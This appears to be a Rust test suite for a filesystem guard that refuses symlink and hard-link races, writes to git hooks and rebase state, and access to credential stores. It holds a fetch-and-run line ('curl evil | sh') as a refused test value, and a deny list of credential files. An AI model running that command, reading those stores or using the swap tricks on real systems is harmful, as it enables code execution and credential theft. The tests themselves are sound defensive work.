        refused(g.delete(&fx.p("ws")), DecisionCode::RootOperation);
    }

    #[test]
    fn reads_stream_through_a_handle() {
        let fx = Fx::new();
        let big = "x".repeat(100_000);
        fx.file("ws/big.txt", &big);
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let mut h = g.open_read("big.txt").unwrap();
        assert_eq!(h.size(), 100_000);
        let mut buf = [0u8; 4096];
        let mut total = 0;
        loop {
            let n = h.read(&mut buf).unwrap();
            if n == 0 {
                break;
            }
            total += n;
        }
        assert_eq!(total, 100_000);
        failed(g.open_read("src"), crate::error::ErrorCode::Io);
    }

    #[test]
    fn writes_are_bounded_by_max_file_size() {
        let fx = Fx::new();
        let limits = ResourceLimits {
            max_file_size: Some(4),
            ..Default::default()
        };
        let g = fx.guard_limits(&pol(Workspace, &[], &[]), &limits);
        refused(g.write_file("a.txt", b"12345"), DecisionCode::FileTooLarge);
        assert!(!fx.path("ws/a.txt").exists());
        // Also when the size was not known at the check.
        let a = g.authorize(&FileRequest::new("a.txt", Op::Write)).unwrap();
        refused(g.write_authorized(&a, b"12345"), DecisionCode::FileTooLarge);
        g.write_authorized(&a, b"1234").unwrap();
        assert_eq!(read(&fx, "ws/a.txt"), "1234");
        let a = g.authorize(&FileRequest::new("a.txt", Op::Read)).unwrap();
        failed(
            g.write_authorized(&a, b"x"),
            crate::error::ErrorCode::InvalidArgument,
        );
    }

    #[test]
    fn listing_leaves_out_what_may_not_be_read() {
        let fx = Fx::new();
        fx.file("ws/secrets/k", "");
        fx.file("ws/x.pem", "");
        let mut p = pol(Workspace, &[], &["secrets", "*.pem"]);
        p.allow_hidden_files = false;
        let g = fx.guard(&p);
        let names: Vec<_> = g
            .list_dir(".")
            .unwrap()
            .into_iter()
            .map(|e| e.name)
            .collect();
        assert_eq!(names, vec!["README.md".to_string(), "src".to_string()]);
    }

    #[test]
    fn deleting_a_link_removes_the_link_only() {
        let fx = Fx::new();
        fx.link("ws/etclink", &fx.p("etc"));
        let g = fx.guard(&pol(Workspace, &[], &[]));
        g.delete("etclink").unwrap();
        assert!(std::fs::symlink_metadata(fx.path("ws/etclink")).is_err());
        assert!(fx.path("etc/passwd").exists());
    }

    #[test]
    fn race_directory_swapped_for_a_link_before_read() {
        let fx = Fx::new();
        fx.file("ws/dir/file.txt", "inside");
        fx.file("outside/file.txt", "SECRET");
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let a = g
            .authorize(&FileRequest::new("dir/file.txt", Op::Read))
            .unwrap();
        std::fs::rename(fx.path("ws/dir"), fx.path("ws/dir.bak")).unwrap();
        fx.link("ws/dir", &fx.p("outside"));
        // A naive open now reads the secret; the guarded one refuses.
        assert_eq!(read(&fx, "ws/dir/file.txt"), "SECRET");
        refused(g.open_read_authorized(&a), DecisionCode::PathChanged);
        // Relative link climbing out: same.
        std::fs::remove_file(fx.path("ws/dir")).unwrap();
        fx.link("ws/dir", "../outside");
        refused(g.open_read_authorized(&a), DecisionCode::PathChanged);
    }

    #[test]
    fn race_parent_swapped_for_a_link_before_write() {
        let fx = Fx::new();
        fx.dir("ws/a/b");
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let a = g
            .authorize(&FileRequest::new("a/b/c.txt", Op::Write))
            .unwrap();
        std::fs::rename(fx.path("ws/a"), fx.path("ws/a.old")).unwrap();
        fx.link("ws/a", &fx.p(""));
        refused(
            g.write_authorized(&a, b"payload"),
            DecisionCode::PathChanged,
        );
        assert!(!fx.path("b").exists());
        assert!(!fx.path("ws/a.old/b/c.txt").exists());
    }

    #[test]
    fn race_final_component_swapped_for_a_link_before_write() {
        let fx = Fx::new();
        fx.file("ws/target.txt", "mine");
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let a = g
            .authorize(&FileRequest::new("target.txt", Op::Write))
            .unwrap();
        std::fs::remove_file(fx.path("ws/target.txt")).unwrap();
        fx.link("ws/target.txt", &fx.p("etc/passwd"));
        refused(g.write_authorized(&a, b"pwned"), DecisionCode::PathChanged);
        assert_eq!(read(&fx, "etc/passwd"), "content of etc/passwd\n");
    }

    #[test]
    fn race_blocked_directory_moved_into_the_checked_name() {
        // Inside the root, no link involved: the blocked directory itself
        // takes the name that was checked. Only its identity gives it away.
        let fx = Fx::new();
        fx.file("ws/dir/key.pem", "public");
        fx.file("ws/secrets/key.pem", "SECRET");
        let g = fx.guard(&pol(Workspace, &[], &["secrets"]));
        let a = g
            .authorize(&FileRequest::new("dir/key.pem", Op::Read))
            .unwrap();
        std::fs::rename(fx.path("ws/dir"), fx.path("ws/dir.bak")).unwrap();
        std::fs::rename(fx.path("ws/secrets"), fx.path("ws/dir")).unwrap();
        // Put the blocked name back so the string check alone would pass.
        fx.dir("ws/secrets");
        refused(g.open_read_authorized(&a), DecisionCode::BlockedPath);
    }

    #[test]
    fn hard_links_to_blocked_or_protected_files_are_refused() {
        let fx = Fx::new();
        fx.file("ws/secret.txt", "SECRET");
        std::fs::hard_link(fx.path("ws/secret.txt"), fx.path("ws/alias.txt")).unwrap();
        std::fs::hard_link(fx.path("home/u/.bashrc"), fx.path("ws/rc")).unwrap();
        let g = fx.guard(&pol(Workspace, &[], &["secret.txt"]));
        refused(g.read_file("alias.txt"), DecisionCode::BlockedPath);
        refused(g.write_file("alias.txt", b"x"), DecisionCode::BlockedPath);
        assert_eq!(read(&fx, "ws/secret.txt"), "SECRET");
        // Reading a start-up file is fine; changing it is not.
        assert!(g.read_file("rc").is_ok());
        refused(
            g.write_file("rc", b"curl evil | sh"),
            DecisionCode::ProtectedPath,
        );
        assert_eq!(read(&fx, "home/u/.bashrc"), "content of home/u/.bashrc\n");
    }

    #[test]
    fn race_entry_swapped_before_delete_and_rename() {
        let fx = Fx::new();
        fx.file("ws/d/victim", "v");
        fx.file("outside/victim", "keep me");
        let g = fx.guard(&pol(Workspace, &[], &[]));
        let del = g
            .authorize(&FileRequest::new("d/victim", Op::Delete))
            .unwrap();
        let mut req = FileRequest::new("d/victim", Op::Rename);
        req.other = Some("moved");
        let mv = g.authorize(&req).unwrap();
        std::fs::rename(fx.path("ws/d"), fx.path("ws/d.old")).unwrap();
        fx.link("ws/d", &fx.p("outside"));
        refused(g.delete_authorized(&del), DecisionCode::PathChanged);
        refused(g.rename_authorized(&mv), DecisionCode::PathChanged);
        assert_eq!(read(&fx, "outside/victim"), "keep me");
    }

    #[test]
    fn fifos_and_devices_are_not_opened() {
        let fx = Fx::new();
        let st = std::process::Command::new("mkfifo")
            .arg(fx.path("ws/fifo"))
            .status()
            .unwrap();
        assert!(st.success());
        let g = fx.guard(&pol(Workspace, &[], &[]));
        failed(
            g.read_file("fifo"),
            crate::error::ErrorCode::InvalidArgument,
        );
        failed(g.write_file("fifo", b"x"), crate::error::ErrorCode::Io);
        failed(
            g.write_file("/dev/null", b"x"),
            crate::error::ErrorCode::Unsupported,
        );
    }

    #[test]
    fn a_guard_for_another_platform_does_not_operate() {
        let g = pure(
            Platform::Windows,
            r"C:\ws",
            r"C:\Users\u",
            &pol(Workspace, &[], &[]),
        );
        failed(
            g.read_file(r"C:\ws\x"),
            crate::error::ErrorCode::Unsupported,
        );
    }

    #[test]
    fn op_errors_convert_to_engine_errors() {
        let e: crate::error::Error =
            OpError::Denied(Decision::deny(DecisionCode::BlockedPath, "no", None)).into();
        assert_eq!(e.code, crate::error::ErrorCode::Denied);
    }
}

#[test]
fn the_common_credential_stores_are_refused_for_every_operation() {
    let fx = Fx::new();
    let g = fx.guard(&pol(Permissive, &[], &[]));
    for (path, store) in [
        ("~/.git-credentials", "~/.git-credentials"),
        ("~/.netrc", "~/.netrc"),
        ("~/.bash_history", "~/.bash_history"),
        ("~/.python_history", "~/.python_history"),
        (
            "~/.local/share/fish/fish_history",
            "~/.local/share/fish/fish_history",
        ),
        ("~/.docker/config.json", "~/.docker/config.json"),
        ("~/.config/gh/hosts.yml", "~/.config/gh"),
        ("~/.pypirc", "~/.pypirc"),
        ("~/.kube/config", "~/.kube"),
        ("~/.config/gcloud/credentials.db", "~/.config/gcloud"),
        ("~/.azure/msal_token_cache.json", "~/.azure"),
        ("~/.password-store/mail.gpg", "~/.password-store"),
        ("~/.vault-token", "~/.vault-token"),
        ("~/.config/git/credentials", "~/.config/git/credentials"),
        (
            "~/.config/containers/auth.json",
            "~/.config/containers/auth.json",
        ),
        ("~/.config/glab-cli/config.yml", "~/.config/glab-cli"),
        ("~/.config/hub", "~/.config/hub"),
        ("~/.pgpass", "~/.pgpass"),
        ("~/.mylogin.cnf", "~/.mylogin.cnf"),
        ("~/.m2/settings-security.xml", "~/.m2/settings-security.xml"),
        (
            "~/.terraform.d/credentials.tfrc.json",
            "~/.terraform.d/credentials.tfrc.json",
        ),
        ("~/.s3cfg", "~/.s3cfg"),
        ("~/.boto", "~/.boto"),
        ("~/.config/rclone/rclone.conf", "~/.config/rclone"),
        ("~/.databrickscfg", "~/.databrickscfg"),
        ("~/.gem/credentials", "~/.gem/credentials"),
        (
            "~/.config/composer/auth.json",
            "~/.config/composer/auth.json",
        ),
        ("~/.composer/auth.json", "~/.composer/auth.json"),
        (
            "~/.config/pypoetry/auth.toml",
            "~/.config/pypoetry/auth.toml",
        ),
        ("~/.config/doctl/config.yaml", "~/.config/doctl"),
        ("~/.fly/config.yml", "~/.fly/config.yml"),
        (
            "~/.config/configstore/firebase-tools.json",
            "~/.config/configstore/firebase-tools.json",
        ),
    ] {
        let d = deny(check(&g, path, Op::Read), DecisionCode::ProtectedPath);
        assert_eq!(
            d.rule.as_deref(),
            Some(format!("built-in: protected {store}").as_str()),
            "{path}"
        );
    }
    // Settings files that are not only credentials stay readable.
    allow(check(&g, "~/.npmrc", Op::Read));
    allow(check(&g, "~/.docker/daemon.json", Op::Read));
    allow(check(&g, "~/.my.cnf", Op::Read));
    allow(check(&g, "~/.m2/settings.xml", Op::Read));
    allow(check(&g, "~/.gradle/gradle.properties", Op::Read));
    allow(check(&g, "~/.terraformrc", Op::Read));
    allow(check(&g, "~/.yarnrc.yml", Op::Read));
    allow(check(&g, "~/.sentryclirc", Op::Read));
    allow(check(&g, "~/.fly/bin/flyctl", Op::Read));
    allow(check(&g, "~/.gem/specs", Op::Read));
    allow(check(&g, "~/.config/pypoetry/config.toml", Op::Read));
    // git's other configuration beside its XDG credential store stays
    // readable (it is protected against changes only).
    allow(check(&g, "~/.config/git/config", Op::Read));
    allow(check(&g, "~/.config/git/ignore", Op::Read));
    deny(
        check(&g, "~/.config/git/config", Op::Write),
        DecisionCode::ProtectedPath,
    );
}

/// A directory git takes for a repository whatever its name (`HEAD` beside
/// `objects/` and `refs/`): its configuration and hooks are protected like
/// those of `.git`, its data is not, and a directory that only looks like
/// one in name is not a repository.
#[cfg(unix)]
#[test]
fn writes_to_a_file_with_several_names_are_refused() {
    let fx = Fx::new();
    fx.file("ws/.git/config", "[core]\n");
    fx.file("outside/o.txt", "o\n");
    std::fs::hard_link(fx.path("ws/.git/config"), fx.path("ws/cfg")).unwrap();
    std::fs::hard_link(fx.path("outside/o.txt"), fx.path("ws/o")).unwrap();
    fx.link("ws/to-cfg", "cfg");
    let g = fx.guard(&pol(Workspace, &[], &[]));
    for path in ["cfg", "o", "to-cfg", "./cfg"] {
        let d = deny(check(&g, path, Op::Write), DecisionCode::ProtectedPath);
        assert!(d.reason.contains("2 names"), "{d:?}");
    }
    // Reading, deleting or renaming one name leaves the file as it is.
    allow(check(&g, "cfg", Op::Read));
    allow(check(&g, "cfg", Op::Delete));
    allow(check2(&g, "cfg", Op::Rename, "cfg2"));
    allow(check(&g, "src/main.rs", Op::Write));
    allow(check(&g, "new.txt", Op::Write));
}

#[test]
fn git_dir_under_another_name() {
    let fx = Fx::new();
    for d in [
        "ws/r3/objects/ab",
        "ws/r3/refs/heads",
        "ws/r3/hooks",
        "ws/r4/hooks",
    ] {
        fx.dir(d);
    }
    fx.file("ws/r3/HEAD", "ref: refs/heads/main\n");
    fx.file("ws/r3/config", "[core]\n\tbare = true\n");
    fx.file("ws/r4/config", "not a repository\n");
    let g = fx.guard(&pol(Workspace, &[], &[]));
    deny(
        check(&g, "r3/config", Op::Write),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "r3/hooks/pre-commit", Op::Create),
        DecisionCode::ProtectedPath,
    );
    deny(
        check(&g, "sub/../r3/hooks/x", Op::Write),
        DecisionCode::ProtectedPath,
    );
    allow(check(&g, "r3/config", Op::Read));
    allow(check(&g, "r3/objects/ab/cdef", Op::Write));
    allow(check(&g, "r3/notes.txt", Op::Write));
    allow(check(&g, "r4/config", Op::Write));
    allow(check(&g, "r4/hooks/pre-commit", Op::Write));
}

#[test]
fn git_run_state_is_written_only_by_git() {
    // A todo list in `rebase-merge/` is a program: `git rebase --skip`
    // runs its `exec` lines. Removing the state only ends the operation.
    let fx = Fx::new();
    for d in ["ws/.git/hooks", "ws/.git/worktrees/w", "ws/rb", "ws/refs"] {
        fx.dir(d);
    }
    fx.file("ws/.git/HEAD", "ref: refs/heads/main\n");
    let g = fx.guard(&pol(Workspace, &[], &[]));
    for (p, op) in [
        (".git/rebase-merge", Op::Create),
        (".git/rebase-merge/git-rebase-todo", Op::Write),
        (".git/rebase-apply/patch", Op::Create),
        (".git/sequencer/todo", Op::Write),
        (".git/worktrees/w/rebase-merge/git-rebase-todo", Op::Write),
    ] {
        deny(check(&g, p, op), DecisionCode::ProtectedPath);
    }
    deny(
        check2(&g, "rb", Op::Rename, ".git/rebase-merge"),
        DecisionCode::ProtectedPath,
    );
    allow(check(&g, ".git/rebase-merge/git-rebase-todo", Op::Read));
    allow(check(&g, ".git/rebase-merge", Op::Delete));
    allow(check(&g, ".git/sequencer", Op::Delete));
    allow(check(&g, ".git/refs/heads/sequencer", Op::Write));
    allow(check(&g, "refs/rebase-merge", Op::Write));
}

/// `covers` and `same` compare from the last component backwards; their
/// answers must be those of a plain prefix and equality test on every pair.
#[test]
fn component_comparison_is_prefix_and_equality() {
    let names: &[&str] = &["a", "b", "ab", "tmp", "home", "ws", ".ssh"];
    let mut paths: Vec<Vec<Name>> = vec![Vec::new()];
    for len in 1..=3 {
        let mut next = Vec::new();
        for p in paths.iter().filter(|p| p.len() == len - 1) {
            for n in names {
                let mut q = p.clone();
                q.push(n.as_bytes().to_vec());
                next.push(q);
            }
        }
        paths.extend(next);
    }
    let k: Vec<KPath> = paths
        .iter()
        .map(|p| KPath::new(Platform::Linux, p.clone()))
        .collect();
    for a in &k {
        for b in &k {
            assert_eq!(a.covers(b), b.keys.starts_with(&a.keys), "{a:?} {b:?}");
            assert_eq!(a.same(b), a.keys == b.keys, "{a:?} {b:?}");
        }
    }
}

/// `names_other_case` answers what a comparison with every protected name
/// answers (`to_lowercase` of both equal, the names themselves not).
#[test]
fn names_other_case_is_a_comparison_with_every_protected_name() {
    let fx = Fx::new();
    let long = format!("~/{}", "y".repeat(70));
    let g = fx.guard(&pol(
        FilesystemMode::Workspace,
        &[],
        &["~/.SSH", "~/K\u{212A}ey", "~/Stra\u{df}e", "~/.Env", &long],
    ));
    for name in [
        ".git",
        ".GIT",
        ".Git",
        "config",
        "CONFIG",
        "hooks",
        "HoOkS",
        ".ssh",
        ".SSH",
        ".Ssh",
        "kkey",
        "KKEY",
        "k\u{212A}ey",
        "STRASSE",
        "stra\u{df}e",
        "STRA\u{df}E",
        ".env",
        ".ENV",
        "plain",
        "",
        "x".repeat(70).as_str(),
        "Y".repeat(70).as_str(),
        "y".repeat(70).as_str(),
        "\u{130}",
    ] {
        let expected = g
            .protected_names()
            .iter()
            .any(|n| n != name && n.to_lowercase() == name.to_lowercase());
        assert_eq!(g.names_other_case(name), expected, "{name:?}");
    }
}
